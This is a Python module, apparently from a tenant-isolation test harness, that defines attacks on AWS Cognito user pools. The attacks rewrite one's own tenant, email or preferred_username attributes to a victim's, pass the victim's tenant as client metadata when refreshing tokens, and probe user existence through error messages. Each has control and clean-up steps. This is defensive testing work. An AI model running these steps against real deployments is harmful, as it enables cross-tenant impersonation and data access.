"""Becoming somebody at the user pool: by writing what tells tenants or people apart."""

from __future__ import annotations

from functools import partial
from typing import TYPE_CHECKING, Any

from harness.attacks.become.leavers import refreshing
from harness.attacks.become.newcomers import admitted, attribute_list, call, exchanging, used
from harness.attacks.technique import Callers, ControlKind, Feature, LeakKind, Severity, Technique, Victim
from harness.blueprints.contract import Effect
from harness.secret import Secret

if TYPE_CHECKING:
    from collections.abc import Mapping

    from harness.attacks.aim import Aim
    from harness.attacks.technique import Step
    from harness.targets.api import ApiRequest

_ATTRIBUTES = "https://docs.aws.amazon.com/cognito/latest/developerguide/user-pool-settings-attributes.html"
_TOKEN_TRIGGER = "https://docs.aws.amazon.com/cognito/latest/developerguide/user-pool-lambda-pre-token-generation.html"  # noqa: S105  a page
_UNKNOWN_NAMES = "https://docs.aws.amazon.com/cognito/latest/developerguide/cognito-user-pool-managing-errors.html"


def _write(token: Secret, values: Mapping[str, str]) -> ApiRequest:
    return call("UpdateUserAttributes", AccessToken=token.reveal(), UserAttributes=attribute_list(values))


def _elsewhere(aim: Aim) -> Secret:
    return aim.tokens.access_token_elsewhere(aim.caller)


def _rewritten(aim: Aim, token: Secret, values: Mapping[str, str]) -> tuple[Step, ...]:
    """Return the steps that write attributes, take new tokens, exchange them and use the session on the aim."""

    def exchanged(answer: Mapping[str, Any]) -> ApiRequest:
        return exchanging(aim, aim.caller.identity_id, Secret(answer["AuthenticationResult"]["IdToken"]))

    return (_write(token, values), lambda _: refreshing(aim, aim.refresh_token), exchanged, used(aim))


def _known_as(aim: Aim, values: Mapping[str, str]) -> tuple[Step, ...]:
    """Return the steps that write attributes, and use whatever session new tokens then get on the aim."""
    written = _write(aim.access_token, values)
    return (written, lambda _: refreshing(aim, aim.refresh_token), *admitted(aim, aim.role_choice), used(aim))


def _own_claims_again(aim: Aim) -> tuple[ApiRequest, ...]:
    # What the attack has added is deleted, what it has changed gets its value back.
    added = [name for name in aim.victims_attributes if name not in aim.own_attributes]
    return (*_deleted(aim, added), *_administered(aim, aim.own_attributes))


def _own_email_again(aim: Aim) -> tuple[ApiRequest, ...]:
    return _administered(aim, {"email": aim.own_email, "email_verified": "true"})


def _no_preferred_name_again(aim: Aim) -> tuple[ApiRequest, ...]:
    return _deleted(aim, ["preferred_username"])


def _deleted(aim: Aim, names: list[str]) -> tuple[ApiRequest, ...]:
    params = {"UserPoolId": aim.deployment.user_pool, "Username": aim.caller.username}
    return (call("AdminDeleteUserAttributes", **params, UserAttributeNames=names),) if names else ()


def _administered(aim: Aim, values: Mapping[str, str]) -> tuple[ApiRequest, ...]:
    params = {"UserPoolId": aim.deployment.user_pool, "Username": aim.caller.username}
    described = attribute_list(values)
    return (call("AdminUpdateUserAttributes", **params, UserAttributes=described),) if described else ()


def _with_metadata(aim: Aim, metadata: Mapping[str, str]) -> tuple[Step, ...]:
    """Return the steps that take new tokens with metadata for the functions of the user pool, and use them."""
    token = aim.refresh_token.reveal()
    refreshed = call(
        "GetTokensFromRefreshToken", RefreshToken=token, ClientId=aim.users_client, ClientMetadata=dict(metadata)
    )
    return (refreshed, *admitted(aim, aim.role_choice), used(aim))


def _in_the_victims_name(aim: Aim) -> dict[str, str]:
    # Every name under which functions have been seen to be told a tenant.
    tenant = aim.asset.discriminator
    return dict.fromkeys(("tenant", "tenantId", "org", "project"), tenant) | dict(aim.victims_attributes)


def _unknown_name(client: str) -> ApiRequest:
    params = {"USERNAME": "nobody.of.isolation-harness", "PASSWORD": "Wrong-password-1"}
    return call("InitiateAuth", AuthFlow="USER_PASSWORD_AUTH", ClientId=client, AuthParameters=params)


_CLAIM = partial(
    Technique,
    plane="user-pool",
    effect=Effect.SESSION,
    operation="UpdateUserAttributes",
    severity=Severity.BLOCKER,
    documentation=_ATTRIBUTES,
    cwe=("CWE-639", "CWE-915"),
    callers=Callers.MEMBERS,
    victims=Callers.OWNING_MEMBERS,
    actions=("dynamodb:GetItem", "s3:GetObject"),
    refusals=(r"unauthorized attribute", r"Attribute cannot be updated"),
)

TECHNIQUES = (
    _CLAIM(
        id="user-pool.session.rewrite-tenant-claim",
        title="writing the victim's tenant into one's own claim, then exchanging a new token",
        catalogue=(
            "up-tenant-attr-client-writable",
            "up-empty-writeattributes-default",
            "idp-rule-mapping-mutable-claim",
        ),
        requires=frozenset({Feature.ENHANCED_FLOW, Feature.TENANT_CLAIM}),
        first_step_decides=True,
        steps=lambda aim: _rewritten(aim, aim.access_token, aim.victims_attributes),
        control_steps=lambda aim: _rewritten(aim, aim.access_token, {"name": "somebody"})[:-1],
        clean_up=_own_claims_again,
    ),
    _CLAIM(
        id="user-pool.session.rewrite-claim-elsewhere",
        title="the same through another app client, the new token from the users' own",
        catalogue=("x-second-app-client-or-environment", "idp-principal-tag-from-mutable-claim"),
        requires=frozenset({Feature.ENHANCED_FLOW, Feature.TENANT_CLAIM, Feature.SECOND_APP_CLIENT}),
        first_step_decides=True,
        steps=lambda aim: _rewritten(aim, _elsewhere(aim), aim.victims_attributes),
        control_steps=lambda aim: _rewritten(aim, _elsewhere(aim), {"name": "somebody"})[:-1],
        clean_up=_own_claims_again,
    ),
    _CLAIM(
        id="user-pool.session.victims-email",
        title="changing one's own e-mail address to the victim's, then using what new tokens get",
        catalogue=("up-email-domain-tenant-unverified-change",),
        requires=frozenset({Feature.TOKEN_SESSIONS}),
        steps=lambda aim: _known_as(aim, {"email": aim.victims_email}),
        control_steps=lambda aim: _known_as(aim, {"email": aim.own_email})[:-1],
        clean_up=_own_email_again,
    ),
    _CLAIM(
        id="user-pool.session.victims-preferred-name",
        title="taking the victim's user name for one's own preferred one, then using what new tokens get",
        catalogue=("up-preferred-username-as-tenant-key",),
        requires=frozenset({Feature.TOKEN_SESSIONS}),
        steps=lambda aim: _known_as(aim, {"preferred_username": aim.victim.username}),
        control_steps=lambda aim: _known_as(aim, {"email": aim.own_email})[:-1],
        clean_up=_no_preferred_name_again,
    ),
    _CLAIM(
        id="user-pool.session.client-metadata",
        title="naming the victim's tenant to the user pool's functions while taking new tokens",
        operation="GetTokensFromRefreshToken",
        documentation=_TOKEN_TRIGGER,
        catalogue=("up-pretoken-trusts-client-metadata",),
        requires=frozenset({Feature.TOKEN_SESSIONS, Feature.TENANT_CLAIM}),
        steps=lambda aim: _with_metadata(aim, _in_the_victims_name(aim)),
        control_steps=lambda aim: _with_metadata(aim, {})[:-1],
    ),
    _CLAIM(
        id="user-pool.read.user-existence",
        title="asking for tokens under a name that nobody has, to see whether the answer tells",
        effect=Effect.READ,
        operation="InitiateAuth",
        severity=Severity.MINOR,
        documentation=_UNKNOWN_NAMES,
        catalogue=("up-user-existence-oracle",),
        cwe=("CWE-204",),
        requires=frozenset({Feature.TOKEN_SESSIONS}),
        victim=Victim.NOBODY,
        refusals=(r"Incorrect username or password",),
        passes=(r"UserNotFoundException: ",),
        allowed_means=LeakKind.ORACLE,
        control=ControlKind.WITNESS,
        operator_steps=lambda aim: (_unknown_name(aim.deployment.outsiders_client),),
        steps=lambda aim: (_unknown_name(aim.users_client),),
    ),
)
